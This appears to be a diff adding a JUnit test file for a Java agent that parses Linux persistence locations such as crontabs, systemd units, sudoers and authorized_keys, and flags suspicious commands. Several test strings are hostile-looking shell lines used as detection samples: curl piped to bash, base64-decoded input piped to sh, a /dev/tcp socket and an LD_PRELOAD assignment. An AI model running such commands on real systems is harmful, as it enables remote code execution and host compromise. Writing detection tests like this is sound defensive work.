@@ -1,0 +1,113 @@
+package bzh.vigie.agent.persistence.format;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import bzh.vigie.agent.host.Files.Kind;
+import bzh.vigie.agent.host.Files.Status;
+import bzh.vigie.agent.host.HostPath;
+import bzh.vigie.agent.host.HostText;
+import bzh.vigie.event.Item.Trait;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.List;
+import java.util.Optional;
+import java.util.Random;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+
+class FormatsTest {
+    private static final List<Format> ALL = List.of(
+            new SystemCrontab(),
+            new UserCrontab(),
+            new Script(),
+            new Unit(),
+            new PreloadList(),
+            new AuthorizedKeys(),
+            new Passwd(),
+            new Shadow(),
+            new Group(),
+            new Sudoers(),
+            new ShellProfile(),
+            new DesktopEntry(),
+            new UdevRules());
+
+    @Test
+    void aSystemCrontabHasAUserColumnAndAUserCrontabHasNone() {
+        SourceFile file = file("crontab", "* * * * * root /bin/true\n");
+        assertEquals("/bin/true", new SystemCrontab().parse(file).drafts().getFirst().name());
+        assertEquals("root /bin/true", new UserCrontab().parse(file).drafts().getFirst().name());
+        assertEquals(1, new SystemCrontab().parse(file("crontab", "* * * * * root\n")).malformed());
+    }
+
+    @Test
+    void shellTextIsCutAtOperatorsAndOutOfItsQuotes() {
+        assertEquals(
+                List.of(List.of("a", "b c"), List.of("d", "e;f"), List.of("g")),
+                ShellText.commands("a 'b c' 2>&1 >/dev/null && d \"e;f\" | g # h"));
+        assertEquals(List.of("a", "&&", "b\\c", "d e"), ShellText.words("a && b\\\\c d\\ e"));
+        assertEquals(List.of(List.of("echo"), List.of("curl", "x")), ShellText.commands("echo $(curl x)"));
+    }
+
+    @Test
+    void whatATextShowsIsSeen() {
+        assertEquals(Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT), Suspicion.in("curl -s http://x/y | bash"));
+        assertEquals(Set.of(Trait.DECODES, Trait.INLINE_SCRIPT), Suspicion.in("echo aa|base64 -d|sh"));
+        assertEquals(Set.of(Trait.NETWORK_TOOL), Suspicion.in("exec 3<>/dev/tcp/192.0.2.1/1"));
+        assertEquals(Set.of(Trait.INLINE_SCRIPT), Suspicion.in("/usr/bin/python3 -c 'import os'"));
+        assertEquals(Set.of(Trait.LOADER_VARIABLE), Suspicion.in("LD_PRELOAD=/x y"));
+        assertEquals(Set.of(), Suspicion.in("/usr/sbin/sshd -D"));
+        assertEquals(Set.of(), Suspicion.in("test -x /usr/sbin/anacron || run-parts /etc/cron.daily"));
+    }
+
+    @Test
+    void noParserThrowsOnRandomBytes() {
+        Random random = new Random(11);
+        for (int i = 0; i < 400; i++) {
+            byte[] bytes = new byte[random.nextInt(2_000)];
+            random.nextBytes(bytes);
+            parseByAll(HostText.content(bytes));
+        }
+    }
+
+    @Test
+    void noParserThrowsOnScrambledText() {
+        String alphabet = "=:\"'\\\n[]#;|&$(){}%*@+-,/ \tabALRUNExecStart0159~é\0";
+        Random random = new Random(12);
+        for (int i = 0; i < 600; i++) {
+            StringBuilder text = new StringBuilder();
+            for (int n = random.nextInt(600); n > 0; n--) {
+                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
+            }
+            parseByAll(text.toString());
+        }
+    }
+
+    @Test
+    void hostileTextCostsNoMoreThanItsLength() {
+        for (String part : List.of(
+                " ", "\\a", "-a ", "|/", "\"", "base64 ", "openssl enc ", "$(", "a=", "@include ", "(", "{", "=\"\\", ":", ",",
+                "ssh-a ", "trap ", "\t= ", "#", "\n\\")) {
+            String text = part.repeat(60_000 / part.length());
+            assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
+                parseByAll(text);
+                parseByAll("command=\"" + text);
+                parseByAll("RUN+=\"" + text);
+            }, part);
+        }
+    }
+
+    private static void parseByAll(String text) {
+        for (Format format : ALL) {
+            Parsed parsed = format.parse(file("x.service", text));
+            assertTrue(parsed.malformed() >= 0);
+        }
+    }
+
+    static SourceFile file(String name, String text) {
+        int size = text.getBytes(StandardCharsets.UTF_8).length;
+        Status status = new Status(Kind.REGULAR, 0644, 0, 0, size, 0, 0, 1, 1);
+        return new SourceFile(HostPath.of("/etc/" + name), text, status, Optional.empty(), false);
+    }
+}
